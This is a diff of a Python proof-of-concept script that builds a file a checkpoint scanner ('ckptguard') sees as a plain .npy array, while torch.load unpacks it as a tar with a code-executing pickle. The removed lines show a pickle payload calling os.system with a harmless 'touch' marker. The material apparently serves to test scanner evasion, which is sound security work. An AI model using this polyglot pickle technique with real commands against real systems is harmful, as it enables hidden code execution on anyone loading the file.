@@ -5,9 +5,7 @@ header 1 'storages' and the payload pickle. ckptguard sniffs .npy before tar (co
 Opener::Open) and calls it a plain float array; torch.load tries tarfile first on any non-zip file.
 Usage: tar_in_npy.py OUT MARKER"""
 import sys, struct
-from tarblocks import header as tar_header
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
+from tarblocks import header as tar_header, payload
 def build(marker):
     pay = payload(marker)
     data = tar_header(b'storages', len(pay)) + pay
